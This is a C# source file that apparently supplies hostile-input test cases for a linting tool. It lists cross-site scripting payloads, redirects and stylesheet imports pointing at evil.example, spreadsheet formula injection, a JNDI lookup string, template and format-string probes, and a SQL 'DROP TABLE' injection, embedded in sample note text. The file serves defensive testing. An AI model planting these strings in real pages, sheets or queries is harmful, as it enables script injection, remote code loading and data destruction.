namespace IptNoteLint.Faults.Hostile;

/// <summary>Words of a note that a browser, a table or a terminal would take for its own. They are quoted in reports, since the note names its area with them.</summary>
internal static class Markup
{
    /// <summary>What stands in no page as it is.</summary>
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "</script><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<form action=//evil.example><input name=x>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<style>@import '//evil.example'</style>",
    ];

    public static IEnumerable<HostileCase> All =>
    [
        .. Payloads.Select(p => HostileCase.Words($"markup: {p}", $"Focus: role dispute {p} with her brother {p}.")),
        .. Others.Select(p => HostileCase.Words($"other tongues: {p}", $"Focus: role dispute {p} with her brother.")),
    ];

    private static readonly string[] Others =
    [
        "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "![x](http://evil.example/a.png)", "[x](javascript:alert(1))",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%n", "'; DROP TABLE notes; --", "\\u003cscript\\u003e", "&lt;script&gt; &#x3c;script&#x3e;",
    ];
}
